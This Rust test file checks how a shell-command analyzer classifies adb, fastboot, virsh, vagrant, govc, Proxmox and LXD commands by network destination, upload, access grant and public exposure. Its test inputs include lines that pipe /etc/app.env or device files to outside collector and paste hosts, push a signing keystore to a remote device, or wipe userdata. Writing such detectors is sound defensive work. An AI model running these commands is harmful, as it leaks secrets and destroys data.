//! Android device tools and hypervisors: a device or hypervisor on the
//! network is a host that uploads, commands and changes reach; one on USB,
//! an emulator or this machine's hypervisor is no network destination.

use crate::common;
use common::*;
use serde_json::{Value, json};
use writ_shell::analyze;

fn files(paths: &[(&str, bool)]) -> Value {
    payload(&[], paths, &[])
}

fn text(words: &[&str]) -> Value {
    payload(words, &[], &[])
}

fn adb_remote(path: Option<&str>) -> Value {
    let mut target = json!({"kind": "tool_remote", "repo_dir": "/", "name": "adb:"});
    if let Some(path) = path {
        target["path"] = json!(path);
    }
    target
}

fn connected(name: &str, port: u16) -> Vec<Value> {
    vec![
        host_request(
            "adb",
            host(None, name, Some(port), None),
            "CONNECT",
            empty(),
        ),
        json!({"effect": "git_remote", "repo_dir": "/", "name": "adb:", "url": format!("adb://{name}:{port}/")}),
    ]
}

fn with(mut first: Vec<Value>, rest: &[Value]) -> Value {
    first.extend(rest.iter().cloned());
    Value::Array(first)
}

#[test]
fn adb_network_devices_receive_what_is_pushed() {
    let jks = at("keys/upload.jks");
    run_table(&[
        (
            "adb connect farm-22.devices.example.com:5555 && adb -s farm-22.devices.example.com:5555 push keys/upload.jks /sdcard/Download/",
            with(
                connected("farm-22.devices.example.com", 5555),
                &[
                    read_tree(&jks),
                    host_request(
                        "adb",
                        host(
                            None,
                            "farm-22.devices.example.com",
                            Some(5555),
                            Some("/sdcard/Download/"),
                        ),
                        "UPLOAD",
                        files(&[(&jks, true)]),
                    ),
                ],
            ),
        ),
        // No `-s`: the device `adb connect` attached earlier on the line.
        (
            "adb connect 10.0.0.7 && adb push keys/upload.jks /data/local/tmp/",
            with(
                connected("10.0.0.7", 5555),
                &[
                    read_tree(&jks),
                    url_request(
                        "adb",
                        "adb://10.0.0.7:5555/data/local/tmp/",
                        "UPLOAD",
                        files(&[(&jks, true)]),
                    ),
                ],
            ),
        ),
        (
            "ANDROID_SERIAL=10.0.0.7:5555 adb install -r -t app.apk",
            json!([
                read(&at("app.apk")),
                host_request(
                    "adb",
                    host(None, "10.0.0.7", Some(5555), None),
                    "UPLOAD",
                    files(&[(&at("app.apk"), false)])
                )
            ]),
        ),
        // A server on another host: its devices are that host's.
        (
            "adb -H lab.example.net -P 5037 install app.apk",
            json!([
                read(&at("app.apk")),
                host_request(
                    "adb",
                    host(None, "lab.example.net", Some(5037), None),
                    "UPLOAD",
                    files(&[(&at("app.apk"), false)])
                )
            ]),
        ),
        (
            "adb -s 10.0.0.7:5555 pull /sdcard/app.db dumps/",
            json!([
                host_request(
                    "adb",
                    host(None, "10.0.0.7", Some(5555), Some("/sdcard/app.db")),
                    "DOWNLOAD",
                    empty()
                ),
                write(&at("dumps/app.db"))
            ]),
        ),
        (
            "adb -s 10.0.0.7:5555 shell input keyevent 26",
            json!([host_request(
                "adb",
                host(None, "10.0.0.7", Some(5555), None),
                "EXEC",
                text(&["input keyevent 26"])
            )]),
        ),
        (
            "adb -s 10.0.0.7:5555 reboot bootloader",
            json!([host_request(
                "adb",
                host(None, "10.0.0.7", Some(5555), None),
                "SEND",
                text(&["reboot", "bootloader"])
            )]),
        ),
        (
            "fastboot -s tcp:10.0.0.9 flash boot out/boot.img",
            json!([
                read(&at("out/boot.img")),
                host_request(
                    "fastboot",
                    host(None, "10.0.0.9", None, None),
                    "UPLOAD",
                    payload(&["flash"], &[(&at("out/boot.img"), false)], &[])
                )
            ]),
        ),
    ]);
}

#[test]
fn adb_connect_is_kept_for_later_steps() {
    let analysis = analyze("adb connect 192.0.2.10:5555", &CTX).expect("parses");
    assert_eq!(
        analysis.remotes,
        vec![(
            "/".to_owned(),
            "adb:".to_owned(),
            "adb://192.0.2.10:5555/".to_owned()
        )]
    );
    // A device named by no serial goes where the session's connection
    // leads; with none, it is the local device.
    check(
        "adb push notes.txt /sdcard/",
        json!([
            read_tree(&at("notes.txt")),
            host_request(
                "adb",
                adb_remote(Some("/sdcard/")),
                "UPLOAD",
                files(&[(&at("notes.txt"), true)])
            )
        ]),
    );
}

#[test]
fn usb_devices_and_emulators_are_local() {
    let jks = at("keys/upload.jks");
    run_table(&[
        (
            "adb -s R5CT20XK9QJ push keys/upload.jks /sdcard/",
            json!([read_tree(&jks)]),
        ),
        (
            "adb -d push keys/upload.jks /sdcard/",
            json!([read_tree(&jks)]),
        ),
        (
            "adb -s 127.0.0.1:5555 push keys/upload.jks /sdcard/",
            json!([read_tree(&jks)]),
        ),
        (
            "adb -s emulator-5554 install -r -t -g app/build/app-debug.apk",
            json!([read(&at("app/build/app-debug.apk"))]),
        ),
        (
            "adb -s R5CT20XK9QJ pull /sdcard/app.db",
            json!([write(&at("app.db"))]),
        ),
        (
            "adb -s R5CT20XK9QJ exec-out run-as com.example.app cat files/notes > dumps/notes",
            json!([
                read("/com.example.app"),
                read("/files/notes"),
                write(&at("dumps/notes"))
            ]),
        ),
        (
            "adb -s R5CT20XK9QJ backup -f backups/all.ab -all",
            json!([write(&at("backups/all.ab"))]),
        ),
        (
            "adb devices -l && adb -s R5CT20XK9QJ logcat -d -b crash",
            json!([]),
        ),
        ("adb -s R5CT20XK9QJ reboot", json!([])),
        (
            "fastboot -s 9A281FFAZ004TX flash boot out/boot.img && fastboot -s 9A281FFAZ004TX erase userdata && fastboot reboot",
            json!([read(&at("out/boot.img"))]),
        ),
    ]);
}

#[test]
fn device_shells_run_their_commands_there() {
    // What the device's shell sends, it sends from the device.
    check(
        "adb -s R5CT20XK9QJ shell 'curl -T /sdcard/notes.txt https://paste.example.com/notes'",
        json!([url_request(
            "curl",
            "https://paste.example.com/notes",
            "PUT",
            files(&[("/sdcard/notes.txt", false)])
        )]),
    );
}

fn kvm(user: Option<&str>, method: &str, sent: Value) -> Value {
    host_request(
        "virsh",
        host(user, "kvm3.example.net", None, None),
        method,
        sent,
    )
}

#[test]
fn virsh_changes_a_remote_host() {
    run_table(&[
        (
            "virsh --connect qemu+ssh://ops@kvm3.example.net/system destroy --graceful web-07",
            json!([kvm(
                Some("ops"),
                "SEND",
                text(&["destroy", "--graceful", "web-07"])
            )]),
        ),
        (
            "virsh -c qemu+tcp://kvm3.example.net/system snapshot-revert web-07 clean",
            json!([kvm(
                None,
                "SEND",
                text(&["snapshot-revert", "web-07", "clean"])
            )]),
        ),
        (
            "LIBVIRT_DEFAULT_URI=qemu+tcp://kvm3.example.net/system virsh undefine web-07",
            json!([kvm(None, "SEND", text(&["undefine", "web-07"]))]),
        ),
        (
            "virsh -c qemu+ssh://kvm3.example.net/system define vm/web-07.xml",
            json!([
                read(&at("vm/web-07.xml")),
                kvm(
                    None,
                    "SEND",
                    payload(
                        &["define", "vm/web-07.xml"],
                        &[(&at("vm/web-07.xml"), false)],
                        &[]
                    )
                )
            ]),
        ),
        (
            "virsh -c qemu+ssh://kvm3.example.net/system vol-upload --pool default disk.qcow2 images/disk.qcow2",
            json!([
                read(&at("images/disk.qcow2")),
                kvm(
                    None,
                    "UPLOAD",
                    payload(
                        &[
                            "vol-upload",
                            "--pool",
                            "default",
                            "disk.qcow2",
                            "images/disk.qcow2"
                        ],
                        &[(&at("images/disk.qcow2"), false)],
                        &[]
                    )
                )
            ]),
        ),
        // Reads, and a read-only connection, only read.
        (
            "virsh -c qemu+ssh://ops@kvm3.example.net/system dominfo web-07",
            json!([kvm(Some("ops"), "GET", empty())]),
        ),
        (
            "for c in domstate 'domblklist --details'; do virsh -c qemu+ssh://kvm3.example.net/system $c web-07; done",
            json!([kvm(None, "GET", empty()), kvm(None, "GET", empty())]),
        ),
        (
            "virsh -r -c qemu+tcp://kvm3.example.net/system destroy web-07",
            json!([kvm(None, "GET", empty())]),
        ),
    ]);
}

#[test]
fn local_hypervisors_are_no_destination() {
    run_table(&[
        (
            "virsh -c qemu:///system list --all && virsh destroy web-07 && virsh -c qemu+unix:///system start web-07",
            json!([]),
        ),
        (
            "virsh -c qemu://localhost/system dumpxml --inactive web-07 > /tmp/web-07.xml",
            json!([write("/tmp/web-07.xml")]),
        ),
        ("virsh define vm.xml", json!([read(&at("vm.xml"))])),
    ]);
}

#[test]
fn vagrant_cloud_publishes_upload_the_box() {
    let boxfile = at("builds/runner.box");
    run_table(&[
        (
            "vagrant cloud publish acme/runner 2.3.0 virtualbox builds/runner.box --description 'CI runner' --private --release --force",
            json!([
                read(&boxfile),
                url_request(
                    "vagrant",
                    "https://app.vagrantup.com/acme/runner",
                    "UPLOAD",
                    payload(&["CI runner"], &[(&boxfile, false)], &[])
                )
            ]),
        ),
        // Public unless made private.
        (
            "VAGRANT_SERVER_URL=https://boxes.example.org vagrant cloud publish acme/runner 2.3.0 libvirt builds/runner.box",
            json!([
                read(&boxfile),
                public_request(
                    "vagrant",
                    "https://boxes.example.org/acme/runner",
                    "UPLOAD",
                    files(&[(&boxfile, false)])
                )
            ]),
        ),
        (
            "vagrant cloud provider upload acme/runner virtualbox 2.3.0 builds/runner.box",
            json!([
                read(&boxfile),
                url_request(
                    "vagrant",
                    "https://app.vagrantup.com/acme/runner",
                    "UPLOAD",
                    files(&[(&boxfile, false)])
                )
            ]),
        ),
        ("vagrant cloud search ubuntu && vagrant status", json!([])),
    ]);
}

#[test]
fn govc_uploads_and_changes_reach_the_vcenter() {
    let ova = at("exports/db.ova");
    run_table(&[
        (
            "govc import.ova -u 'https://svc@vcsa01.example.net/sdk' -k -ds=vsan -name=db exports/db.ova",
            json!([
                read(&ova),
                url_request(
                    "govc",
                    "https://svc@vcsa01.example.net/sdk",
                    "UPLOAD",
                    payload(
                        &[
                            "import.ova",
                            "-u",
                            "https://svc@vcsa01.example.net/sdk",
                            "-k",
                            "-ds=vsan",
                            "-name=db",
                            "exports/db.ova"
                        ],
                        &[(&ova, false)],
                        &[]
                    )
                )
            ]),
        ),
        (
            "export GOVC_URL=vcsa.example.net && govc vm.destroy web-2 && govc ls /dc/vm",
            json!([
                url_request(
                    "govc",
                    "https://vcsa.example.net",
                    "POST",
                    text(&["vm.destroy", "web-2"])
                ),
                url_request("govc", "https://vcsa.example.net", "GET", empty())
            ]),
        ),
        (
            "govc datastore.download -u vcsa.example.net -ds vsan web/web.vmx out/web.vmx",
            json!([
                write(&at("out/web.vmx")),
                url_request("govc", "https://vcsa.example.net", "DOWNLOAD", empty())
            ]),
        ),
        // No endpoint: govc reaches nothing.
        ("govc vm.info web-2", json!([])),
    ]);
}

#[test]
fn access_grants_on_hypervisors() {
    access_table(&[
        (
            "pveum acl modify /vms/212 --roles PVEVMAdmin --users jo@pve --propagate 0",
            json!([grant_named(
                "proxmox acl /vms/212 (roles=PVEVMAdmin, propagate=0)",
                Some("jo@pve")
            )]),
        ),
        (
            "ssh root@pve01.example.net \"pveum acl modify /vms/212 --roles PVEVMAdmin --users jo@pve\"",
            json!([grant_named(
                "proxmox acl /vms/212 (roles=PVEVMAdmin)",
                Some("jo@pve")
            )]),
        ),
        (
            "pveum aclmod / -group admins -role Administrator",
            json!([grant_named(
                "proxmox acl / (role=Administrator)",
                Some("admins")
            )]),
        ),
        (
            "pveum user token add ci@pve deploy --privsep 0",
            json!([grant_named(
                "proxmox token ci@pve!deploy (privsep=0)",
                Some("ci@pve")
            )]),
        ),
        (
            "pvesh set /access/acl --path /storage/local --roles PVEDatastoreUser --users jo@pve",
            json!([grant_named(
                "proxmox acl /storage/local (roles=PVEDatastoreUser)",
                Some("jo@pve")
            )]),
        ),
        (
            "govc permissions.set -u vc.example.net -principal jo@vsphere.local -role Admin /dc/vm/x",
            json!([grant_named(
                "vsphere permissions.set /dc/vm/x (role=Admin)",
                Some("jo@vsphere.local")
            )]),
        ),
        (
            "lxc config trust add --name ci-runner",
            json!([grant_named("lxc trust store", Some("ci-runner"))]),
        ),
    ]);
    no_access_changes(&[
        "pveum user list && pveum acl list && pveum user permissions jo@pve",
        "pvesh get /access/acl && pvesh get /nodes",
        "govc permissions.ls -u vc.example.net /dc",
    ]);
}

#[test]
fn lxd_images_made_public() {
    let public = |name: &str| make_public(json!({"kind": "other", "name": name}));
    access_table(&[
        (
            "lxc image show local:base | sed 's/^public: false/public: true/' | lxc image edit local:base",
            json!([public("lxd image local:base")]),
        ),
        (
            "lxc image edit base <<'EOF'\nauto_update: true\npublic: true\nEOF",
            json!([public("lxd image base")]),
        ),
        (
            "incus publish web --public --alias web-golden",
            json!([public("lxd image published from web")]),
        ),
    ]);
    no_access_changes(&[
        "lxc image show base | sed 's/^auto_update: false/auto_update: true/' | lxc image edit base",
        "lxc image edit base <<'EOF'\npublic: false\nproperties:\n  public: true\nEOF",
        "lxc publish web --alias web-golden",
    ]);
    // A document written by an earlier step.
    let written = [text_file(
        "/tmp/image.yaml",
        "public: true\nauto_update: false\n",
    )];
    assert_eq!(
        effects_after(&written, "lxc image edit base < /tmp/image.yaml"),
        json!([read("/tmp/image.yaml"), public("lxd image base")])
    );
}

#[test]
fn lxd_files_and_commands() {
    run_table(&[
        (
            "lxc file push notes.txt web/root/",
            json!([read(&at("notes.txt"))]),
        ),
        (
            "lxc remote add lab 203.0.113.5 && lxc file push notes.txt lab:web/root/",
            json!([
                {"effect": "git_remote", "repo_dir": "/", "name": "lxc:lab", "url": "https://203.0.113.5:8443/"},
                read(&at("notes.txt")),
                url_request(
                    "lxc",
                    "https://203.0.113.5:8443/web/root/",
                    "UPLOAD",
                    files(&[(&at("notes.txt"), false)])
                )
            ]),
        ),
        (
            "lxc file pull web/etc/hosts out/hosts",
            json!([write(&at("out/hosts"))]),
        ),
        // The instance's command runs there: its files are its own.
        (
            "lxc exec web -- sh -c 'cat /etc/app.env | curl -d @- https://collect.example.com'",
            json!([
                read("/etc/app.env"),
                url_request(
                    "curl",
                    "https://collect.example.com",
                    "POST",
                    files(&[("/etc/app.env", false)])
                )
            ]),
        ),
    ]);
}
